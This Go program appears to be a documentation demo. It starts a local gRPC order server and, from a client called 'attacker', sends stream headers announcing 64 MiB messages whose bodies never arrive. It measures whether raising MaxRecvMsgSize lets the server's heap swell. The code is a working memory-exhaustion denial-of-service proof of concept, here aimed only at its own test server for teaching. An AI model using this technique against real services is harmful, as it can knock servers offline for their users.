// needs: golang-go golang-google-grpc-dev
package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"math"
	"net"
	"net/http"
	"runtime"
	"shop"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/grpc"
)

var attacker = &http2.Transport{
	AllowHTTP: true,
	DialTLS:   func(network, address string, _ *tls.Config) (net.Conn, error) { return net.Dial(network, address) },
}

// region: show
// announce begins a call with the head of a message and never sends the rest. It counts those that are refused.
func announce(address string, head []byte, refused *int32) {
	content, writer := io.Pipe()
	request, err := http.NewRequest("POST", "http://"+address+"/shop.v1.Orders/CreateOrder", content)
	if err != nil {
		log.Fatal(err)
	}
	request.Header.Set("Content-Type", "application/grpc")
	request.Header.Set("TE", "trailers")
	go func() {
		if _, err := attacker.RoundTrip(request); err == nil {
			atomic.AddInt32(refused, 1)
		}
	}()
	writer.Write(head)
}

func main() {
	for _, limit := range []int{4 << 20, math.MaxInt32} { // mark
		var handled, refused int32
		createOrder := func(context.Context, *shop.CreateOrderRequest) (*shop.Order, error) {
			atomic.AddInt32(&handled, 1)
			return &shop.Order{}, nil
		}
		server, address := shop.Serve(shop.Handlers{Create: createOrder}, grpc.MaxRecvMsgSize(limit))
		for stream := 1; stream <= 6; stream++ {
			announce(address, []byte{0, 0x04, 0, 0, 0}, &refused) // "here comes a message of 64 MiB" // mark
		}
		var memory runtime.MemStats
		for patience := 0; atomic.LoadInt32(&refused) < 6 && memory.HeapAlloc < 384<<20 && patience < 200; patience++ {
			time.Sleep(10 * time.Millisecond)
			runtime.GC()
			runtime.ReadMemStats(&memory) // what is in use; grpc-go allocates what was announced, before it is there
		}
		fmt.Printf("limit %d: calls refused %d, handlers called %d, heap holds 384 MiB and more: %t\n",
			limit, refused, handled, memory.HeapAlloc >= 384<<20)
		server.Stop()
	}
}

// endregion: show
